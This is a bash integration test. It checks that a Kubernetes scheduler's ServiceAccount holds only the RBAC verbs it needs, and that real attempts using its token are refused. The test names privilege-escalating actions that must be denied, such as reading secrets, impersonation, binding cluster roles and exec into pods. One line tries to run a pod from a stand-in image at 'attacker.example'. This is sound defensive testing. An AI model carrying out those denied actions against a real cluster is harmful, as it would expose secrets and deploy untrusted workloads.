#!/usr/bin/env bash
# rbac_test.sh: what the scheduler's ServiceAccount may and may not do under manifests/rbac.yaml
# (issue 37, defect 8; docs/deploy.md, "RBAC"), on the real apiserver. `kubectl auth can-i
# --as=system:serviceaccount:kube-system:tessel-scheduler` answers for every verb the ClusterRole
# grants and for the ones it must not; then real attempts with the scheduler's own token: reading
# secrets, deleting or creating pods, updating a pod, changing a node, reading a PodTemplate are
# refused by RBAC. A pod patch and a PodTemplate delete pass RBAC: the admission policies narrow
# them (admission_policy_test.sh).
source "$(dirname "$0")/lib.sh"
it_begin rbac

SA=system:serviceaccount:kube-system:tessel-scheduler
can() { kubectl auth can-i --as="$SA" "$@" 2>/dev/null || true; }
# expect yes|no VERB RESOURCE [ARGS...]
expect() {
  local want=$1; shift
  local got
  got=$(can "$@")
  [[ $got == "$want" ]] || fail "can-i $*: '$got', want $want"
}

# What scheduling needs.
for args in "get pods -A" "list pods -A" "watch pods -A" "create pods --subresource=binding -A" "create pods --subresource=eviction -A" \
    "patch pods --subresource=status -A" "list nodes" "watch nodes" "list priorityclasses.scheduling.k8s.io" \
    "create events -A" "patch events -A" "create events.events.k8s.io -A" \
    "list persistentvolumeclaims -A" "patch persistentvolumeclaims -A" "patch persistentvolumes" \
    "list namespaces" "list poddisruptionbudgets.policy -A" "list jobs.batch -A" \
    "create podtemplates -A" "delete podtemplates -A" "list podtemplates -A" \
    "patch pods -A" "create tokenreviews.authentication.k8s.io" "create subjectaccessreviews.authorization.k8s.io"; do
  # shellcheck disable=SC2086
  expect yes $args
done
expect yes get leases.coordination.k8s.io/tessel-scheduler -n kube-system
expect yes update leases.coordination.k8s.io/tessel-scheduler -n kube-system
# What it must not do.
for args in "update pods -A" "delete pods -A" "create pods -A" "deletecollection pods -A" \
    "get secrets -A" "list secrets -A" "get configmaps -A" "update nodes" "patch nodes" "delete nodes" \
    "update pods --subresource=status -A" "update events -A" "update podtemplates -A" "patch podtemplates -A" \
    "get podtemplates -A" "deletecollection podtemplates -A" "update persistentvolumeclaims -A" \
    "update persistentvolumes" "create serviceaccounts --subresource=token -A" "impersonate users" \
    "escalate clusterroles.rbac.authorization.k8s.io" "bind clusterroles.rbac.authorization.k8s.io" \
    "create pods --subresource=exec -A" "delete namespaces" "update queues.tessel.io" "patch priorityclasses.scheduling.k8s.io"; do
  # shellcheck disable=SC2086
  expect no $args
done
expect no update leases.coordination.k8s.io/someone-else -n kube-system
expect no update leases.coordination.k8s.io/tessel-scheduler -n "$NS"
say "can-i: every granted verb yes, the rest no"

# Real attempts with the scheduler's token.
as_scheduler() { kubectl --kubeconfig "$SCHED_KUBECONFIG" "$@"; }
forbidden() {
  local what=$1; shift
  local out
  if out=$("$@" 2>&1); then fail "the scheduler's token could $what"; fi
  [[ $out == *"Forbidden"* || $out == *"forbidden"* ]] || fail "$what failed, but not as forbidden: $out"
}
kubectl create secret generic -n "$NS" s --from-literal=k=v >/dev/null
it_nodes rbac-0:1
it_pod p --select pool=none
kubectl apply -f - >/dev/null <<YAML
apiVersion: v1
kind: PodTemplate
metadata: {name: team-template, namespace: $NS}
template: {spec: {containers: [{name: main, image: busybox}]}}
YAML
forbidden "read a secret" as_scheduler get secret -n "$NS" s
forbidden "delete a pod" as_scheduler delete pod -n "$NS" p --wait=false
forbidden "create a pod" as_scheduler run -n "$NS" evil --image=attacker.example/evil:1 --restart=Never
forbidden "update a pod" as_scheduler replace -f <(kubectl get pod -n "$NS" p -o json)
forbidden "label a node" as_scheduler label node rbac-0 owned=yes
forbidden "read a PodTemplate" as_scheduler get podtemplate -n "$NS" team-template
say "scheduler token: secrets, pod create/delete/update, node writes and template reads refused"
exit 0
